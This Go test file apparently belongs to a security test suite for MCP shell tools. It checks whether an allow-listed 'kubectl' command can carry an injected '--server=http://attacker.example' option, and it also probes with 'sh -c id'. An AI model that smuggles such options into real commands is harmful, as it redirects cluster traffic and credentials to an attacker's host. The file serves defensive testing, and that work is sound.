package escape_test

import (
	"os"
	"strings"
	"testing"

	"github.com/mark3labs/mcp-go/server"

	programs31 "fixtures/omcg0031/programs"
)

// OMCG0031 on a tool that runs the program its command line names, after
// an allow-list of the operator's programs: the command line
// "kubectl get pods --server=…" passes the list (kubectl is allowed) and
// kubectl takes the option. The tool that refuses every other word that
// is an option refuses the same line. Served by mcp-go over Streamable
// HTTP, called with the go-sdk's client.
func TestOptionInjectionAllowedProgram(t *testing.T) {
	marker := fakeKubectl(t)
	cs := connectMark(t, func(s *server.MCPServer) {
		programs31.Register(s, programs31.Config{Enabled: true, Programs: []string{"kubectl"}})
	})
	const attacker = "http://attacker.example"
	line := "kubectl get pods --server=" + attacker
	for _, tc := range []struct {
		tool    string
		flagged bool
	}{
		{"shell_exec", true},
		{"shell_strict", false},
	} {
		os.Remove(marker)
		call(t, cs, tc.tool, map[string]any{"command": line})
		got, _ := os.ReadFile(marker)
		if escaped := strings.TrimSpace(string(got)) == attacker; escaped != tc.flagged {
			t.Errorf("%s %q: kubectl read --server= as its option: %v, want %v", tc.tool, line, escaped, tc.flagged)
		}
	}
	// The allow-list is a check: a program not on it is refused, and the
	// strict tool still runs an allowed program with its other words.
	if text, _ := call(t, cs, "shell_exec", map[string]any{"command": "sh -c id"}); !strings.Contains(text, "not allowed") {
		t.Errorf("shell_exec ran a program not allowed: %q", text)
	}
	if text, _ := call(t, cs, "shell_strict", map[string]any{"command": "kubectl get pods"}); strings.Contains(text, "not allowed") {
		t.Errorf("shell_strict refused an allowed command: %q", text)
	}
}
